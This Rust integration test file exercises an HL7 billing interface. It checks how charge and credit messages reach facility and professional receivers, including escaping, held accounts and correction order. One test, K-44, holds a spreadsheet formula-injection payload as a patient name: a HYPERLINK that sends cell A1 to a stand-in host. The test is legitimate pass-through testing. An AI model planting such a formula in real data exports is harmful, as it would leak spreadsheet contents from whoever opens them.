//! What is on the wire to billing: who, which account, which code, and how it is taken back.

use std::collections::BTreeSet;

use collimator::domain::LineState::{Accepted, Held, Queued, Sent};

use crate::support::daemon::{Target, TestDaemon};
use crate::support::receiver::{Receiver, Step, Taken};
use crate::support::told::{case, course_of};

struct Billed {
    daemon: TestDaemon,
    facility: Receiver,
    professional: Receiver,
}

impl Billed {
    async fn new() -> Billed {
        let (facility, professional) = (Receiver::yes(), Receiver::yes());
        let targets = vec![Target::facility(&facility), Target::professional(&professional)];
        Billed { daemon: TestDaemon::start(targets).await, facility, professional }
    }

    fn taken(&self) -> Vec<Taken> {
        [self.facility.taken(), self.professional.taken()].concat()
    }

    /// Ten lines are told, and leave as they should.
    async fn ten(case_name: &str) -> Vec<Taken> {
        let billed = Billed::new().await;
        billed.daemon.tell(&case(case_name)).await;
        billed.daemon.stands(&[(Accepted, 10)]).await;
        let taken = billed.taken();
        assert_eq!(taken.len(), 10);
        assert_sound(&taken);
        taken
    }
}

/// What holds of everything that leaves: a number of its own, an account, a code, a day; and no
/// quotes that would mean that there is none.
fn assert_sound(taken: &[Taken]) {
    let numbers: BTreeSet<String> = taken.iter().map(Taken::transaction).collect();
    assert_eq!(numbers.len(), taken.len(), "every FT1-2 once");
    for one in taken {
        let text = String::from_utf8(one.bytes.clone()).unwrap();
        assert!(!text.contains("\"\"") && !text.contains('\n'), "{text}");
        let places = [
            ("PID", 3),
            ("PID", 18),
            ("PV1", 19),
            ("FT1", 4),
            ("FT1", 7),
            ("FT1", 25),
            ("FT1", 19),
        ];
        for (segment, field) in places {
            assert!(!one.field(segment, field).is_empty(), "{segment}-{field} in {text}");
        }
        assert!(one.control_id().len() <= 20, "{text}");
        let segments: Vec<&str> = text.split('\r').filter(|it| !it.is_empty()).collect();
        assert!(segments.iter().all(|it| it.is_char_boundary(3)), "{text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn k01_a_name_that_is_a_backslash_leaves_as_one() {
    for one in Billed::ten("K-01").await {
        let message = one.message();
        let name = message.field("PID", 5);
        assert_eq!(name.component(1).text(), "\\");
        assert_eq!(name.component(2).text(), "Ottilie");
        assert!(String::from_utf8_lossy(&one.bytes).contains("|\\E\\^Ottilie"), "escaped anew");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn k05_what_is_known_to_be_none_leaves_as_nothing() {
    for one in Billed::ten("K-05").await {
        assert_eq!(one.field("PID", 3), "4410501");
        assert_eq!(one.field("FT1", 13), "");
        assert_eq!(one.field("FT1", 20).len(), 10);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn k44_formulas_leave_as_they_were_told() {
    for one in Billed::ten("K-44").await {
        assert_eq!(one.field("PID", 3), "+4414401");
        assert_eq!(one.account(), "-A4414401");
        let message = one.message();
        let name = message.field("PID", 5).component(1).text().into_owned();
        assert_eq!(name, "=HYPERLINK(\"http://192.0.2.9/?x=\"&A1,\"open\")");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn k07_numbers_leave_digit_by_digit() {
    let billed = Billed::new().await;
    billed.daemon.tell(&case("K-07")).await;
    billed.daemon.stands(&[(Accepted, 30)]).await;
    let whose = |one: &Taken| {
        let message = one.message();
        let of = |number: u16| message.field("PID", 3).component(number).text().into_owned();
        (of(1), of(4), message.field("PID", 5).component(1).text().into_owned())
    };
    let mut people: Vec<_> = billed.taken().iter().map(whose).collect();
    people.sort();
    people.dedup();
    let expected = [
        ("0004410701", "EXAMPLE", "Marshwood"),
        ("4410701", "EXAMPLE", "Yarrow"),
        ("4410701", "RIVERSIDE", "Penhallow"),
    ];
    let expected = expected.map(|(a, b, c)| (a.to_owned(), b.to_owned(), c.to_owned()));
    assert_eq!(people, expected);
}

#[tokio::test(flavor = "multi_thread")]
async fn k48_nothing_leaves_without_an_account_and_all_leaves_with_one() {
    let billed = Billed::new().await;
    billed.daemon.tell(&case("K-48-a")).await;
    billed.daemon.stands(&[(Held, 10)]).await;
    assert!(billed.taken().is_empty());
    billed.daemon.tell(&case("K-48-b")).await;
    billed.daemon.stands(&[(Accepted, 10)]).await;
    assert_sound(&billed.taken());
    for one in billed.taken() {
        assert_eq!((one.account(), one.field("PV1", 19)), ("A4414801".into(), "A4414801".into()));
    }
}

/// The fraction of the plain course, taken back by its source; with `instead`, another one in its
/// place in the same message.
fn correction(instead: Option<&str>) -> Vec<u8> {
    let told = course_of(1).into_iter().map(|message| String::from_utf8(message).unwrap());
    let told = told.into_iter().find(|text| text.contains("|TX-2D^")).unwrap();
    let told =
        told.replace("|N10010|", "|N10099|").replace("|20261008181000||DFT", "|20261009||DFT");
    let (head, charge) = told.split_at(told.find("FT1|").unwrap());
    let (transaction, course) = charge.split_once('\r').unwrap();
    let mut credit: Vec<&str> = transaction.split('|').collect();
    let original = std::mem::replace(&mut credit[2], "N1-C0001");
    credit[6] = "CD";
    credit.resize(31, "");
    credit.push(original);
    let mut text = format!("{head}{}\r{course}", credit.join("|"));
    if let Some(activity) = instead {
        let new = transaction.replace("N1-00005", "N1-00105").replace("TX-2D^", activity);
        text.push_str(&format!("\r{}\r{course}", new.replacen("FT1|1|", "FT1|2|", 1)));
    }
    text.into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_charge_credited_after_its_yes_is_taken_back_by_its_number() {
    let billed = Billed::new().await;
    billed.daemon.tell(&course_of(1)).await;
    billed.daemon.stands(&[(Accepted, 10)]).await;
    let charged = billed.facility.taken();
    let charged = charged.iter().find(|one| one.charge() == "20261008 77402  CG").unwrap();
    billed.daemon.tell(&[correction(None)]).await;
    billed.daemon.settled().await;
    let taken = billed.taken();
    let credits: Vec<&Taken> = taken.iter().filter(|one| one.field("FT1", 6) == "CD").collect();
    let of_it = credits.iter().filter(|one| one.field("FT1", 31) == charged.transaction());
    assert_eq!(of_it.count(), 1, "{:?}", charges(&taken));
    for credit in credits {
        let original = taken.iter().find(|one| one.transaction() == credit.field("FT1", 31));
        let original = original.expect("what is taken back was charged");
        assert_eq!(credit.charge().replace("CD", "CG"), original.charge());
        assert_eq!(credit.account(), original.account());
    }
    assert_sound(&taken);
}

fn charges(taken: &[Taken]) -> Vec<String> {
    taken.iter().map(|one| format!("{} {}", one.transaction(), one.charge())).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_replaces_a_charge_leaves_after_the_yes_to_its_credit() {
    let billed = Billed::new().await;
    billed.daemon.tell(&course_of(1)).await;
    billed.daemon.stands(&[(Accepted, 10)]).await;
    billed.facility.always(Step::Hold);
    billed.daemon.tell(&[correction(Some("TX-3D^"))]).await;
    let taken = billed.facility.has(6).await;
    assert_eq!(taken[5].field("FT1", 6), "CD", "{:?}", charges(&taken));
    billed.daemon.carried().await;
    let states: Vec<_> = billed.daemon.lines().iter().map(|it| it.line.state).collect();
    assert!(states.contains(&Queued) && states.contains(&Sent), "{states:?}");
    let replacing = billed.daemon.lines_in(Queued).into_iter().next().unwrap();
    assert_eq!(replacing.line.after, Some(billed.daemon.lines_in(Sent)[0].line.id));
    billed.facility.let_go();
    billed.daemon.settled().await;
    let taken = billed.facility.taken();
    let order: Vec<String> = taken[5..].iter().map(|one| one.field("FT1", 6)).collect();
    assert_eq!(order[..2], ["CD", "CG"], "{:?}", charges(&taken));
    assert_sound(&billed.taken());
}
